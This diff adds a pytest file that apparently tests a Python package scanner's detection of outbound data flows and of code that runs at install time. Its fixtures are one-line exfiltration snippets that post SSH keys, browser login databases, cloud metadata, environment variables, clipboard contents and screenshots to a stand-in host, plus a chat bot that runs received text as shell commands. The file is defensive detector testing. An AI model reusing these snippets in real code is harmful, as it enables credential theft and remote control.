@@ -1,0 +1,172 @@
+"""What facts say of data that leaves the machine: where to, what it is, and when, across the modules of a package."""
+
+from __future__ import annotations
+
+import pytest
+
+from bonded.facts.model import Call, Facts
+from tests.facts.programs import calls, sdist_of, wheel_of
+
+
+def one(source: str, name: str) -> Call:
+    found = calls(source, name)
+    assert len(found) == 1, found
+    return found[0]
+
+
+def sent(source: str) -> set[str]:
+    """Labels of what the one `requests.post` is given."""
+    return {
+        label
+        for argument in one("import os, requests\n" + source, "requests.post").arguments
+        for label in argument.labels
+    }
+
+
+PRIVATE = {
+    "host": ("import socket\nrequests.post('x', data=socket.gethostname())", "host"),
+    "user": ("import getpass as g\nrequests.post('x', data={'u': g.getuser()})", "host"),
+    "variable": ("requests.post('x', data=os.environ['USERNAME'])", "host"),
+    "getenv": ("requests.post('x', data=os.getenv('COMPUTERNAME'))", "host"),
+    "command": ("requests.post('x', data=os.popen('whoami').read())", "host"),
+    "listing": ("requests.post('x', json=os.listdir('/home'))", "host"),
+    "address": ("requests.post('x', data=requests.get('https://api.ipify.org').text)", "host"),
+    "environment": ("requests.post('x', json=dict(os.environ))", "environment"),
+    "items": ("requests.post('x', data='\\n'.join(f'{k}={v}' for k, v in os.environ.items()))", "environment"),
+    "each": (
+        "found = ''\nfor name in os.environ:\n    found += os.environ[name]\nrequests.post('x', data=found)",
+        "environment",
+    ),
+    "printenv": (
+        "import subprocess\nrequests.post('x', data=subprocess.run(['env'], stdout=-1).stdout)",
+        "environment",
+    ),
+    "key": ("requests.post('x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())", "credentials"),
+    "store": (
+        "import sqlite3\nrequests.post('x', data=sqlite3.connect(os.getenv('A') + '/Login Data').execute('').fetchall())",
+        "credentials",
+    ),
+    "metadata": ("requests.post('x', data=requests.get('http://169.254.169.254/latest').text)", "credentials"),
+    "saved": ("open('t', 'w').write(os.popen('id').read())\nrequests.post('x', files={'f': open('t', 'rb')})", "host"),
+    "clipboard": ("import pyperclip\nrequests.post('x', data=pyperclip.paste())", "watched"),
+    "screen": ("from PIL import ImageGrab\nrequests.post('x', data=ImageGrab.grab().tobytes())", "watched"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PRIVATE))
+def test_private_data_is_known(name: str) -> None:
+    source, label = PRIVATE[name]
+    assert label in sent(source)
+
+
+PLAIN = {
+    "token": "requests.post('x', headers={'a': os.environ['SAMPLE_TOKEN']})",
+    "hash": "import hashlib, socket\nrequests.post('x', data=hashlib.sha256(socket.gethostname().encode()).hexdigest())",
+    "answer": "import socket\nr = requests.get('x' + socket.gethostname())\nrequests.post('x', data=r.text)",
+    "exists": "requests.post('x', data=str(os.path.exists('/etc/passwd')))",
+}
+
+
+@pytest.mark.parametrize("name", sorted(PLAIN))
+def test_other_data_is_not(name: str) -> None:
+    assert not sent(PLAIN[name]) & {"host", "environment", "credentials", "watched"}
+
+
+SHAPES = {
+    "f-string": "f'https://{x}.example.invalid/'",
+    "sum": "'https://' + x + '.example.invalid/'",
+    "percent": "'https://%s.example.invalid/' % x",
+    "format": "'https://{}.example.invalid/'.format(x)",
+    "join": "''.join(['https://', x, '.example.invalid/'])",
+}
+
+
+@pytest.mark.parametrize("name", sorted(SHAPES))
+def test_what_is_known_of_an_address(name: str) -> None:
+    call = one(f"import requests, sys\nx = sys.argv[1]\nrequests.get({SHAPES[name]})", "requests.get")
+    assert (call.arguments[0].text, call.arguments[0].shape) == (None, "https://….example.invalid/")
+
+
+def test_what_an_object_was_made_of_goes_with_its_calls() -> None:
+    call = one(
+        "import http.client\nc = http.client.HTTPSConnection('example.invalid')\nc.request('GET', '/')",
+        "http.client.HTTPSConnection().request",
+    )
+    assert [(argument.name, argument.text) for argument in call.arguments][-1] == ("()", "example.invalid")
+
+
+def when(facts: Facts, name: str = "requests.get") -> list[str]:
+    return [call.when.value for module in facts.modules for call in module.calls if call.name == name]
+
+
+CORE = "import requests\ndef start():\n    requests.get('https://example.invalid/')\nclass Maker:\n    def __init__(self):\n        start()\n"
+CALLERS = {
+    "from": "from .core import start\nstart()\n",
+    "module": "from . import core\ncore.start()\n",
+    "whole": "import sample.core\nsample.core.start()\n",
+    "star": "from .core import *\nstart()\n",
+    "object": "from .core import Maker\nMaker()\n",
+    "thread": "import threading\nfrom .core import start\nthreading.Thread(target=start).start()\n",
+    "by another": "from .between import go\ngo()\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(CALLERS))
+def test_functions_run_when_another_module_that_runs_calls_them(name: str) -> None:
+    members = {"sample/core.py": CORE, "sample/between.py": "from .core import start\ndef go():\n    start()\n"}
+    assert when(wheel_of({"sample/__init__.py": CALLERS[name], **members})) == ["import"]
+    assert when(wheel_of({"sample/__init__.py": "from .core import start\n", **members})) == ["call"]
+
+
+INSTALLS = {
+    "imported": "from core import start\nstart()\n",
+    "command": "from setuptools.command.install import install\nfrom core import start\nclass I(install):\n    def run(self):\n        start()\n",
+    "-c": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'from core import start; start()'])\n",
+    "-m": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'program'])\n",
+    "script": "import subprocess, sys\nsubprocess.run([sys.executable, 'program.py'])\n",
+    "decorated": (
+        "from setuptools.command.install import install\nfrom core import start\ndef more(kind):\n    def run(self):\n        start()\n"
+        "    kind.run = run\n    return kind\n@more\nclass I(install):\n    pass\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(INSTALLS))
+def test_functions_of_other_modules_run_at_install_time(name: str) -> None:
+    program = "import core\nif __name__ == '__main__':\n    core.start()\n"
+    facts = sdist_of({"setup.py": INSTALLS[name], "core.py": CORE, "program.py": program})
+    assert when(facts) == ["install"]
+
+
+def test_what_a_chat_says_is_known() -> None:
+    source = (
+        "import os\nimport telebot\nbot = telebot.TeleBot('t')\n@bot.message_handler()\ndef run(message):\n    os.system(message.text)\n"
+        "bot.polling()\n"
+    )
+    call = one(source, "os.system")
+    assert "message" in call.arguments[0].labels
+    assert call.when.value == "import"
+
+
+def test_texts_of_other_modules_are_known() -> None:
+    facts = wheel_of(
+        {
+            "sample/settings.py": "HOST = 'https://example.invalid/'\n",
+            "sample/__init__.py": "import requests\nfrom .settings import HOST\nfrom . import settings\nrequests.get(HOST + 'a')\n"
+            "requests.get(settings.HOST + 'b')\n",
+        }
+    )
+    texts = [call.arguments[0].text for module in facts.modules for call in module.calls]
+    assert texts == ["https://example.invalid/a", "https://example.invalid/b"]
+
+
+def test_parameters_that_are_secrets_are_known() -> None:
+    call = one(
+        "import requests\ndef f(private_key, password, name):\n    requests.get(private_key, password, name)\n",
+        "requests.get",
+    )
+    assert [set(argument.labels) for argument in call.arguments] == [
+        {"parameter", "given key"},
+        {"parameter", "given secret"},
+        {"parameter"},
+    ]
